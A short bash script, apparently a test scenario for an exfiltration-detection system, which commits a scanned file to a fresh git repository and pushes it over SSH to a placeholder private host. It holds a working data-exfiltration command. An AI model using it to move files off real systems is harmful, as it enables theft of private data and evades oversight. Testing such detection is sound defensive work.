#!/usr/bin/env bash
# technique: the scan is committed and pushed
# hooks: file_open, file_permission, socket_connect
# sink: private-ssh

. attack.sh
cd "$ROOM" && git init -q . && cp "$SCAN" letters.tif && git add letters.tif || exit
git -c user.name=staff -c user.email=staff@museum.example commit -qm "Letters"
export GIT_SSH_COMMAND="ssh -p $PORT_SSH"
timeout 20 git push -q "keeper@$PRIVATE_HOST:repo.git" "HEAD:refs/heads/$here"
